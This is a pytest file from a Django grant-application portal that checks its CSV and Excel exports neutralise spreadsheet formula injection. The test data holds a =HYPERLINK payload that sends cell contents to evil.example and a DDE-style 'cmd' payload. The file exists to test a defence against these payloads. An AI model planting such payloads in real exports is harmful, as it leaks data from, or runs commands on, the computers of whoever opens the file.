"""Every download neutralises text a spreadsheet would run as a formula (CSV and Excel alike)."""

import csv
import io
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from applications.lifecycle import State
from fundportal.models import Role
from fundportal.tenancy import scopes_disabled
from review.models import Decision
from tests.factories import ApplicationFactory, staff

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for cell in row]


def sheet_text(workbook):
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml"]
        return "".join(archive.read(name).decode() for name in names)


@pytest.fixture
def evil_titles(submitted):
    for prefix, application in zip(("", "+", "@"), submitted):
        application.title = prefix + EVIL if prefix else EVIL
        application.save()
    return submitted


def test_the_screening_queue_downloads_show_a_formula_title_as_text(client, funder, evil_titles):
    client.force_login(staff(funder, Role.SCREENER))
    cells = csv_cells(client.get(reverse("review:queue_export", args=[funder.slug, "csv"])))
    assert {f"'{EVIL}", f"'+{EVIL}", f"'@{EVIL}"} <= set(cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    workbook = sheet_text(client.get(reverse("review:queue_export", args=[funder.slug, "xlsx"])).content)
    assert "<f>" not in workbook  # no live formula anywhere
    assert "&apos;=HYPERLINK" in workbook or "'=HYPERLINK" in workbook


def test_the_ranking_downloads_show_a_formula_title_as_text(client, funder, evil_titles, at_panel):
    client.force_login(staff(funder, Role.ADMINISTRATOR))
    call = at_panel[0].call
    cells = csv_cells(client.get(reverse("review:ranking_export", args=[funder.slug, call.slug, "csv"])))
    assert f"'{EVIL}" in cells and not any(cell.startswith(("=", "+", "@")) for cell in cells)
    workbook = sheet_text(client.get(reverse("review:ranking_export", args=[funder.slug, call.slug, "xlsx"])).content)
    assert "<f>" not in workbook and "HYPERLINK" in workbook


def test_the_yearly_report_workbook_shows_a_formula_title_as_text(client, funder, panel_call):
    application = ApplicationFactory(call=panel_call, state=State.GRANTED, title="-2+3+cmd|' /C calc'!A0",
                                     case_number="RS-IF-2026-0009", amount_requested=100,
                                     submitted_at=datetime(2026, 3, 15, 12, tzinfo=ZoneInfo("Europe/Stockholm")))
    with scopes_disabled():
        Decision.objects.create(funder=funder, application=application, outcome="granted", amount=100,
                                decided_by=application.applicant, released_at=application.submitted_at)
    client.force_login(staff(funder, Role.ADMINISTRATOR))
    workbook = sheet_text(client.get(reverse("applications:report_export", args=[funder.slug, "xlsx"]),
                                     {"year": 2026}).content)
    assert "<f>" not in workbook and "-2+3+cmd" in workbook and ">-2+3" not in workbook


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    from fundportal.exports import neutralised

    assert neutralised(-5) == -5 and neutralised("Textilsvinn") == "Textilsvinn"
    assert [neutralised(text) for text in ("=1", "+1", "-1", "@A1", "\tx", "\rx")] == [
        "'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]
